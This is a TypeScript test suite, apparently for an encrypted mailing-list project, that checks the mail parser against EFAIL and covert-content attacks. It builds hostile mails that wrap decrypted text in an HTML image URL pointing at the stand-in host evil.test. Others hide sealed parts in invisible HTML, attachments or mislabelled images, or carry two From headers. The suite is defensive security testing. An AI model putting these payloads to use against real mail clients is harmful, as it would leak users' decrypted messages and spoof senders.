/** Sealed parts in foreign shells: hidden in HTML, beside other text, attached, nested, doubled (EFAIL, covert content). */

import { parseAddress } from "../../src/mail/mailbox.js";
import { partTypes } from "../../src/mail/part-types.js";
import { readPayload } from "../../src/mail/payload.js";
import { fromParts, readSealedMail, writeSubmission } from "../../src/mail/sealed-mail.js";
import {
  type Mode,
  openAtServer,
  openPost,
  prepareReseal,
  resealFor,
  type SealedMessage,
  sealingHalf,
} from "../../src/protocol/index.js";
import { aliceSeals, type Cast, keysOf, makeCast, saysAlice, serverContext } from "../protocol/people.js";
import { bytes } from "./forge.js";
import { onePage, quoteAnywhere, sealedAnywhere } from "./naive/naive-mail.js";
import { roster } from "./naive/naive-server.js";

let cast: Cast;
/** Bob's copies of one post of Alice's, as a wiretapper has them. */
let sealed: Extract<SealedMessage, { mode: "key" }>;
let whole: Extract<SealedMessage, { mode: "whole" }>;

async function copy(mode: Mode, text: string, messageId?: string): Promise<SealedMessage> {
  const context = serverContext(cast);
  const opened = await openAtServer(await aliceSeals(cast, mode, bytes(text), messageId), context);
  return resealFor(await prepareReseal(opened, { ...context, roster }), sealingHalf(cast.bob));
}

async function copyFor(text: string, messageId?: string) {
  const made = await copy("key", text, messageId);
  if (made.mode !== "key") throw new Error("mode key is meant");
  return made;
}

beforeAll(async () => {
  cast = await makeCast("compatible");
  sealed = await copyFor("the secret");
  const made = await copy("whole", "the secret");
  if (made.mode !== "whole") throw new Error("mode whole is meant");
  whole = made;
});

const part = (type: string, content: Uint8Array | string, more = "") =>
  [
    "--b",
    `Content-Type: ${type}`,
    "Content-Transfer-Encoding: base64",
    ...(more === "" ? [] : [more]),
    "",
    Buffer.from(content).toString("base64").replace(/.{76}/g, "$&\r\n"),
  ].join("\r\n");
const mail = (type: string, parts: readonly string[]) =>
  bytes(
    [
      "From: Mallory <mallory@evil.test>",
      "To: team@lists.example",
      "Subject: look",
      "MIME-Version: 1.0",
      `Content-Type: ${type}; boundary=b`,
      "",
      ...parts,
      "--b--",
      "",
    ].join("\r\n"),
  );
const key = () => part(partTypes.key, sealed.key);
const body = () => part(partTypes.body, sealed.body);

describe("EFAIL: what is opened is put between an image's quotes, so that rendering sends it away", () => {
  const before = '<img src="https://evil.test/?';
  const after = '">';

  const raw = () =>
    mail("multipart/mixed", [part("text/html", before), key(), body(), part("text/html", after)]);

  test("a reader that joins the opened part with its neighbours gives the secret away", async () => {
    const page = await onePage(raw(), keysOf(cast, cast.bob), saysAlice(cast));
    // what a program fetches to draw the image
    expect(/src="([^"]*)"/.exec(page)?.[1]).toBe("https://evil.test/?the secret");
  });

  test("ours hands out the sealed message and nothing that stood around it", async () => {
    const read = await readSealedMail(raw());
    expect(read).toEqual({
      kind: "sealed",
      sealed,
      from: { name: "Mallory", address: parseAddress("mallory@evil.test") },
      references: [],
    });
    expect(JSON.stringify(read)).not.toContain("evil.test/?");
  });

  test("HTML inside the payload that is cut off is closed by its own end: nothing outside can follow", async () => {
    const letter = await readPayload(
      bytes(
        `From: a@b.test\r\nMessage-ID: <1@b.test>\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\nContent-Type: text/html\r\n\r\n${before}`,
      ),
    );
    expect(letter.html?.trimEnd()).toBe(before);
  });
});

describe("covert content: a sealed part where nobody looks for one, in a mail that its reader answers", () => {
  const part822 = () =>
    Buffer.from(
      writeSubmission({
        from: { address: parseAddress("alice@example.test") },
        list: parseAddress("team@lists.example"),
        date: new Date(),
        messageId: "<1@example.test>",
        references: [],
        sealed,
      }),
    );
  const armored = () =>
    `-----BEGIN PGP MESSAGE-----\r\n\r\n${Buffer.from(whole.message).toString("base64")}\r\n-----END PGP MESSAGE-----`;
  const named = (name: string) => `Content-Disposition: attachment; filename="${name}"`;

  const places: [string, () => Uint8Array][] = [
    [
      "in an attached mail",
      () =>
        mail("multipart/mixed", [
          part("text/plain", "please have a look"),
          part("message/rfc822", part822()),
        ]),
    ],
    [
      "armored in a text",
      () => mail("multipart/mixed", [part("text/plain", `please have a look\r\n${armored()}`)]),
    ],
    [
      "armored in HTML that is not displayed",
      () =>
        mail("multipart/alternative", [
          part("text/plain", "please have a look"),
          part("text/html", `<p>please have a look</p><div style="display:none">${armored()}</div>`),
        ]),
    ],
    [
      "as pictures under our file names",
      () =>
        mail("multipart/mixed", [
          part("text/plain", "please have a look"),
          part("image/png", sealed.key, named("sealed-key.pgp")),
          part("image/png", sealed.body, named("sealed-body.pgp")),
        ]),
    ],
  ];

  test.each(places)(
    "%s: a mail program that opens whatever it finds quotes it to the attacker",
    async (_, raw) => {
      const quote = await quoteAnywhere(raw(), keysOf(cast, cast.bob), saysAlice(cast));
      expect(quote).toContain("> please have a look");
      expect(quote).toContain("> the secret");
    },
  );

  test.each(places)(
    "%s: ours does not find it, so it is not opened by replying or forwarding",
    async (_, raw) => {
      await expect(readSealedMail(raw())).resolves.toEqual({ kind: "not-sealed" });
    },
  );
});

describe("two sealed messages in one mail: which one is shown, under whose name?", () => {
  let other: Extract<SealedMessage, { mode: "key" }>;
  beforeAll(async () => {
    other = await copyFor("another", "<2@example.test>");
  });

  const twoMessages = () =>
    mail("multipart/mixed", [
      key(),
      part(partTypes.body, other.body),
      part(partTypes.key, other.key),
      body(),
    ]);

  test("a reader that takes the first of each kind mixes them", async () => {
    await expect(sealedAnywhere(twoMessages())).resolves.toEqual({ ...sealed, body: other.body });
  });

  test("ours takes none", async () => {
    await expect(readSealedMail(twoMessages())).rejects.toMatchObject({ code: "damaged" });
    const inOrder = [key(), body(), part(partTypes.key, other.key), part(partTypes.body, other.body)];
    await expect(readSealedMail(mail("multipart/mixed", inOrder))).rejects.toMatchObject({
      code: "damaged",
    });
  });

  test("with a whole message beside key and body, a reader that is content with either shows one of two", () => {
    const parts = [
      { type: partTypes.key, bytes: sealed.key },
      { type: partTypes.body, bytes: sealed.body },
      { type: partTypes.message, bytes: whole.message },
    ];
    const of = (...types: string[]) => fromParts(parts.filter(({ type }) => types.includes(type)));
    expect(of(partTypes.key, partTypes.body)).toEqual(sealed);
    expect(of(partTypes.message)).toEqual({ mode: "whole", message: whole.message });
  });

  test.each([
    ["a key part beside a whole message", [partTypes.key, partTypes.message]],
    ["a body alone", [partTypes.body]],
    ["a list signature alone", [partTypes.through]],
    ["everything", Object.values(partTypes)],
  ])("%s makes no message for ours", (_, types) => {
    expect(() => fromParts(types.map((type) => ({ type, bytes: sealed.key })))).toThrow(
      expect.objectContaining({ code: "damaged" }),
    );
  });

  test("ours takes none either if the second is told by file names alone", async () => {
    const named = (name: string) => `Content-Disposition: attachment; filename="${name}"`;
    const mixed = [
      key(),
      body(),
      part("application/octet-stream", other.key, named("sealed-key (1).pgp")),
      part("application/pgp-encrypted", other.body, named("sealed-body (1).pgp")),
    ];
    await expect(readSealedMail(mail("multipart/mixed", mixed))).rejects.toMatchObject({ code: "damaged" });
  });

  test("a name gives another message's part no better standing: it does not open", async () => {
    const named = (name: string) => `Content-Disposition: attachment; filename="${name}"`;
    const raw = mail("multipart/mixed", [
      part("application/octet-stream", sealed.key, named("sealed-key.pgp")),
      part("application/octet-stream", other.body, named("sealed-body.pgp")),
    ]);
    const read = await readSealedMail(raw);
    if (read.kind !== "sealed") throw new Error("the parts are found by their names");
    await expect(openPost(read.sealed, keysOf(cast, cast.bob), saysAlice(cast))).rejects.toMatchObject({
      code: expect.stringMatching(/^(?:binding-mismatch|damaged)$/),
    });
  });

  const twoFrom = () =>
    Buffer.concat([bytes("From: alice@example.test\r\n"), mail("multipart/mixed", [key(), body()])]);

  test("two From: a program that takes the first checks another than one that takes the last shows", () => {
    const all = [
      ...twoFrom()
        .toString("latin1")
        .matchAll(/^From: (.*)\r$/gm),
    ].map(([, value]) => value);
    expect(all.at(0)).toContain("alice@example.test");
    expect(all.at(-1)).toContain("mallory@evil.test");
  });

  test("two From: ours refuses", async () => {
    await expect(readSealedMail(twoFrom())).rejects.toMatchObject({ code: "damaged" });
  });
});
